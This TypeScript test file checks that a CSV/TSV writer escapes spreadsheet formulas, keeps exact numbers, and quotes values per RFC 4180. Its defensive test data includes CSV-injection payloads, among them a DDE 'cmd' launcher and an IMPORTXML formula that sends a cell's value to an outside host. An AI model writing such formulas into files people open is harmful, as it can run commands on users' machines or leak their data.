import path from 'node:path'
import { ExactNumber } from '@revetl/sdk'
import { expect, test } from 'vitest'
import { openFiles, query } from './open-files.ts'

const text = { value: 'string' } as const

/** Texts that a spreadsheet would run, or that hide one. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;2)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '  =1+1',
  '"=1+1',
  "'=1+1",
  '\u00a0=1',
  '\ufeff=1',
  '=IMPORTXML(CONCAT("http://example.com/?v=", A1), "//a")',
  "=cmd|' /C calc'!A0",
  '+41 44 000 00 00',
]

test.each(formulas)('%j opens as text', async (value) => {
  await using files = await openFiles()
  await files.write('f.csv', 'replace', { types: text, records: [{ value }] })
  const [[cell]] = (await readCsv(path.join(files.folder, 'f.csv'))) as [[string]]
  expect(cell).toBe(`'${value}`)
})

test.each(['a=b', '1+1', 'mail@example.com', 'x', ' x', '0', "it's"])(
  '%j stays as it is',
  async (value) => {
    await using files = await openFiles()
    await files.write('f.csv', 'replace', { types: text, records: [{ value }] })
    expect(await readCsv(path.join(files.folder, 'f.csv'))).toEqual([[value]])
  },
)

test('names of columns are made safe too', async () => {
  await using files = await openFiles()
  await files.write('f.csv', 'replace', { types: { '=x': 'string' }, records: [{ '=x': 'a' }] })
  expect(files.text('f.csv')).toBe("'=x\r\na\r\n")
})

test('numbers stay numbers, digit for digit, negative ones too', async () => {
  await using files = await openFiles()
  const records = [
    { i: -5, d: new ExactNumber('-12345678901234567890.123456789012345678'), n: 1e-7 },
    { i: new ExactNumber('9007199254740993'), d: new ExactNumber('1.50'), n: -0.5 },
  ]
  const types = { i: 'integer', d: 'decimal', n: 'number' } as const
  await files.write('f.csv', 'replace', { types, records })
  expect(files.text('f.csv')).toBe(
    'i,d,n\r\n-5,-12345678901234567890.123456789012345678,1e-7\r\n9007199254740993,1.50,-0.5\r\n',
  )
})

test('formulas can be kept for files that only programs read', async () => {
  await using files = await openFiles({ csv: { formulas: 'keep' } })
  await files.write('f.csv', 'replace', { types: text, records: [{ value: '=1+1' }] })
  expect(files.text('f.csv')).toBe('value\r\n=1+1\r\n')
})

test('null is nothing, the empty text is a pair of quotes, and nested values are JSON', async () => {
  await using files = await openFiles()
  const records = [{ a: null, b: '', c: { x: [1, new ExactNumber('9007199254740993')] }, d: false }]
  const types = { a: 'string', b: 'string', c: 'json', d: 'boolean' } as const
  await files.write('f.csv', 'replace', { types, records })
  expect(files.text('f.csv')).toBe('a,b,c,d\r\n,"","{""x"":[1,9007199254740993]}",false\r\n')
})

test('every text comes back exactly from a CSV reader', async () => {
  await using files = await openFiles()
  const values = [
    'a,b',
    'a"b',
    '""',
    'line\nline',
    'line\r\nline',
    'carriage\rreturn',
    ' spaces ',
    'Zoë 👩‍👩‍👧 𝔘 \u2028',
    'x'.repeat(100_000),
    'semi;colon',
    'nul\u0000byte',
  ]
  const records = values.map((value, id) => ({ id, value }))
  await files.write('f.csv', 'replace', { types: { id: 'integer', ...text }, records })
  expect(parseCsv(files.text('f.csv')).slice(1)).toEqual(
    values.map((value, id) => [String(id), value]),
  )
})

test('delimiter, header and byte order mark are chosen', async () => {
  await using files = await openFiles({ csv: { delimiter: ';', header: false, bom: true } })
  const types = { a: 'string', b: 'string' } as const
  await files.write('f.csv', 'replace', { types, records: [{ a: 'x;y', b: 'z,z' }] })
  expect(files.text('f.csv')).toBe('\ufeff"x;y";z,z\r\n')
})

test('.tsv is separated by tabs', async () => {
  await using files = await openFiles()
  const types = { a: 'string', b: 'string' } as const
  await files.write('f.tsv', 'replace', { types, records: [{ a: 'x', b: 'y\tz' }] })
  expect(files.text('f.tsv')).toBe('a\tb\r\nx\t"y\tz"\r\n')
})

function readCsv(file: string): Promise<readonly (readonly unknown[])[]> {
  return query(
    `SELECT * FROM read_csv('${file}', header = true, all_varchar = true, delim = ',', quote = '"', escape = '"', allow_quoted_nulls = false)`,
  )
}

/** RFC 4180, read by the letter. */
function parseCsv(content: string): string[][] {
  const rows: string[][] = [[]]
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g
  for (const [, quoted, plain = '', end] of content.matchAll(cells)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}
